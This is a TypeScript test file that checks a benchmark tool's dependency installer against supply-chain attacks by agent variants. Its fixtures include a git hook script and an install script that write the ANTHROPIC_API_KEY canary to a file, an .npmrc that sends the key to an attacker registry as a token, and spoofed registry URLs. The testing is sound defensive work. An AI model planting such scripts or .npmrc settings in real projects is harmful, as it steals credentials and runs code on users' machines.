// Attacks on the host-side dependency install: a variant's lockfile, package.json and .npmrc are data, never code,
// configuration or a URL to fetch. The process under attack holds a canary key; it must not leak anywhere.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { buildAgent } from '../bench/agent-build.ts';
import { installDependencies } from '../bench/agent-deps.ts';
import { tempDir } from './helpers.ts';

const CANARY = `sk-ant-canary-${randomBytes(12).toString('hex')}`;
const saved = { key: process.env.ANTHROPIC_API_KEY, registry: process.env.CLADE_NPM_REGISTRY };

interface Seen { url: string; headers: IncomingHttpHeaders }
/** A loopback HTTP server that records every request and serves `files` by path. */
async function loopback(files: Record<string, Buffer> = {}): Promise<{ url: string; seen: Seen[]; server: Server }> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    const body = files[req.url ?? ''];
    if (body) res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(body);
    else res.writeHead(404).end('{}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as { port: number }).port;
  return { url: `http://127.0.0.1:${port}/`, seen, server };
}

/** Every file under `dir` whose bytes contain the canary. */
async function leaks(...dirs: string[]): Promise<string> {
  const r = await execa('grep', ['-rl', '--', CANARY, ...dirs], { reject: false });
  return r.stdout.trim();
}

/** A tiny package packed locally, with an install script that would leave a marker (and the key) if it ever ran. */
async function tinyPackage(marker: string): Promise<{ tgz: Buffer; integrity: string }> {
  const dir = await tempDir();
  const script = `require('fs').writeFileSync(${JSON.stringify(marker)}, String(process.env.ANTHROPIC_API_KEY))`;
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'clade-tiny', version: '1.0.0', scripts: { install: `node -e "${script.replace(/"/g, '\\"')}"` } }));
  // Fresh bytes every run (and no `npm pack`, which caches what it packs): npm must fetch it, not find it cached.
  writeFileSync(join(dir, 'index.js'), `module.exports = '${randomBytes(8).toString('hex')}';\n`);
  await execa('bash', ['-c', 'mkdir package && mv package.json index.js package/ && tar -czf tiny.tgz package'], { cwd: dir });
  const tgz = readFileSync(join(dir, 'tiny.tgz'));
  return { tgz, integrity: `sha512-${createHash('sha512').update(tgz).digest('base64')}` };
}

function agentFolder(dir: string, deps: Record<string, string>, lockPackages: Record<string, unknown>): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'agent', version: '1.0.0', dependencies: deps }));
  writeFileSync(join(dir, 'package-lock.json'), JSON.stringify({ name: 'agent', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'agent', version: '1.0.0', dependencies: deps }, ...lockPackages } }));
  return dir;
}

beforeAll(() => {
  process.env.ANTHROPIC_API_KEY = CANARY;
});
afterAll(() => {
  if (saved.key === undefined) delete process.env.ANTHROPIC_API_KEY;
  else process.env.ANTHROPIC_API_KEY = saved.key;
  if (saved.registry === undefined) delete process.env.CLADE_NPM_REGISTRY;
  else process.env.CLADE_NPM_REGISTRY = saved.registry;
});

describe('dependency installs never run a variant\'s choices on the host', () => {
  it('a lockfile with a git dependency whose repository sets git=./script in its .npmrc runs nothing', async () => {
    const root = await tempDir();
    const marker = join(root, 'ran-on-host');
    // The "git repositories": local ones, so nothing leaves the machine. npm prepares a git dependency that has a
    // prepare script with a nested `npm install` in its clone, which reads the clone's .npmrc: `git=./script` makes
    // it run the repository's own script for its git dependency on the host, with the host's environment.
    const second = join(root, 'evil2');
    mkdirSync(second);
    writeFileSync(join(second, 'package.json'), JSON.stringify({ name: 'evil2', version: '1.0.0' }));
    const commit = 'git init -q && git add -A && git -c user.name=x -c user.email=x@x commit -qm evil';
    await execa('bash', ['-c', commit], { cwd: second });
    const repo = join(root, 'evil');
    mkdirSync(repo);
    writeFileSync(join(repo, 'script'), `#!/bin/sh\necho "$ANTHROPIC_API_KEY" >> ${marker}\nexec git "$@"\n`, { mode: 0o755 });
    writeFileSync(join(repo, '.npmrc'), 'git=./script\n');
    writeFileSync(join(repo, 'package.json'), JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { prepare: 'true' }, dependencies: { evil2: `git+file://${second}` } }));
    await execa('bash', ['-c', commit], { cwd: repo });
    const sha = (await execa('git', ['rev-parse', 'HEAD'], { cwd: repo })).stdout.trim();
    const spec = `git+file://${repo}`;
    // package.json and the lock's root look innocent (evil@1.0.0); only the entry's `resolved` names the repository.
    const child = agentFolder(join(root, 'child'), { evil: '1.0.0' }, { 'node_modules/evil': { version: '1.0.0', resolved: `${spec}#${sha}` } });

    const err = await installDependencies(child, join(root, 'deps')).then(() => undefined, (e: Error) => e);
    expect(existsSync(marker), 'the repository\'s script ran on the host').toBe(false);
    expect(await leaks(root)).toBe('');
    expect(err?.message).toMatch(/package-lock\.json: node_modules\/evil is resolved from git\+file:.*not a registry tarball/);
  });

  it('an agent folder\'s own .npmrc is not read: no registry, token or setting of its own', async () => {
    const root = await tempDir();
    const marker = join(root, 'install-script-ran');
    const { tgz, integrity } = await tinyPackage(marker);
    const trusted = await loopback({ '/clade-tiny/-/clade-tiny-1.0.0.tgz': tgz });
    const attacker = await loopback({ '/clade-tiny/-/clade-tiny-1.0.0.tgz': tgz });
    try {
      // Clade's own configuration names the registry (here a loopback one); the variant's .npmrc names another, and
      // would send it the key as a token.
      process.env.CLADE_NPM_REGISTRY = trusted.url;
      const agent = agentFolder(join(root, 'agent'), { 'clade-tiny': '1.0.0' }, {
        'node_modules/clade-tiny': { version: '1.0.0', resolved: 'https://registry.npmjs.org/clade-tiny/-/clade-tiny-1.0.0.tgz', integrity, hasInstallScript: true },
      });
      const host = attacker.url.replace(/^http:/, '');
      writeFileSync(join(agent, '.npmrc'), `registry=${attacker.url}\n${host}:_authToken=\${ANTHROPIC_API_KEY}\nignore-scripts=false\nscript-shell=${join(root, 'sh')}\n`);
      await buildAgent(agent, { cacheDir: join(root, 'builds'), depsDir: join(root, 'deps') }).catch(() => undefined);

      expect(attacker.seen.map((s) => s.url), 'npm fetched from the registry the variant\'s .npmrc named').toEqual([]);
      expect(JSON.stringify(trusted.seen)).not.toContain(CANARY);
      expect(existsSync(marker)).toBe(false);
      expect(await leaks(root)).toBe('');
      // The install itself worked, through the registry Clade was told to use, into the dependency cache.
      const [cached] = readdirSync(join(root, 'deps')).filter((n) => !n.endsWith('.lock'));
      const installed = join(root, 'deps', cached!, 'node_modules', 'clade-tiny', 'package.json');
      expect(existsSync(installed)).toBe(true);
      // npm ran as nobody (its cache is nobody's), and what it installed was handed back to Clade's user.
      if (process.getuid?.() === 0) expect(statSync(join(tmpdir(), 'clade-npm-cache')).uid).toBe(65534);
      expect(statSync(installed).uid).toBe(process.getuid?.());
    } finally {
      delete process.env.CLADE_NPM_REGISTRY;
      trusted.server.close();
      attacker.server.close();
    }
  });

  it('a resolved URL that is a file: path or not on the registry is refused before npm runs', async () => {
    const root = await tempDir();
    const attacker = await loopback();
    try {
      const secretDir = join(root, 'host-secret');
      mkdirSync(secretDir);
      writeFileSync(join(secretDir, 'package.json'), JSON.stringify({ name: 'secret', version: '1.0.0' }));
      const offRegistry = agentFolder(join(root, 'a'), { x: '1.0.0' }, { 'node_modules/x': { version: '1.0.0', resolved: `${attacker.url}x/-/x-1.0.0.tgz`, integrity: 'sha512-AAAA' } });
      const err1 = await installDependencies(offRegistry, join(root, 'deps')).then(() => undefined, (e: Error) => e);
      expect(attacker.seen.map((s) => s.url)).toEqual([]);
      expect(err1?.message).toMatch(/package-lock\.json: node_modules\/x is resolved from http:\/\/127\.0\.0\.1.*not a registry tarball/);

      const fromFile = agentFolder(join(root, 'b'), { secret: `file:${secretDir}` }, { 'node_modules/secret': { version: '1.0.0', resolved: `file:${secretDir}`, link: true } });
      const err2 = await installDependencies(fromFile, join(root, 'deps')).then(() => undefined, (e: Error) => e);
      expect(existsSync(join(fromFile, 'node_modules', 'secret'))).toBe(false);
      expect(err2?.message).toMatch(/secret/);
    } finally {
      attacker.server.close();
    }
  });

  it('names the package and the rule for every kind of spec it refuses', async () => {
    const { checkLockfile } = await import('../bench/npm-install.ts');
    const ok = { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz', integrity: 'sha512-AAAA' };
    const lock = (packages: Record<string, unknown>, v = 3) => ({ lockfileVersion: v, packages: { '': { name: 'r', dependencies: { a: '^1' } }, ...packages } });
    const pkg = { name: 'r', dependencies: { a: '^1' } };
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': ok }))).not.toThrow();
    expect(() => checkLockfile(pkg, { lockfileVersion: 1, dependencies: {} })).toThrow(/lockfileVersion 1.*npm install --lockfile-version 3/);
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': { ...ok, integrity: undefined } }))).toThrow(/node_modules\/a has no integrity hash/);
    expect(() => checkLockfile(pkg, { lockfileVersion: 2, dependencies: { a: { version: 'git+file:///x' } } })).toThrow(/no "packages" section/);
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': { ...ok, resolved: undefined } }))).not.toThrow();
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': { ...ok, resolved: undefined, version: 'file:../a' } }))).toThrow(/has version "file:\.\.\/a", not an exact registry version/);
    expect(() => checkLockfile(pkg, lock({ 'lib/a': ok }))).toThrow(/lib\/a is not under node_modules/);
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': { ...ok, resolved: 'http://registry.npmjs.org/a/-/a-1.0.0.tgz' } }))).toThrow(/not a registry tarball/);
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': { ...ok, resolved: 'https://registry.npmjs.org.evil.example/a.tgz' } }))).toThrow(/not a registry tarball/);
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': { resolved: 'lib/a', link: true } }))).toThrow(/node_modules\/a is a link/);
    expect(() => checkLockfile({ name: 'r', dependencies: { a: 'github:evil/a' } }, lock({ 'node_modules/a': ok }))).toThrow(/package\.json: dependency a is "github:evil\/a"/);
    expect(() => checkLockfile({ name: 'r', dependencies: { a: 'npm:evil@1' } }, lock({ 'node_modules/a': ok }))).toThrow(/dependency a is "npm:evil@1"/);
    expect(() => checkLockfile(pkg, lock({ '': { name: 'r', devDependencies: { a: 'file:../a' } }, 'node_modules/a': ok }))).toThrow(/package-lock\.json: dependency a is "file:\.\.\/a"/);
    expect(() => checkLockfile(pkg, lock({ 'node_modules/a': { ...ok, dependencies: { b: 'git+https://x/y.git' } } }))).toThrow(/node_modules\/a: dependency b is "git\+https/);
  });
});
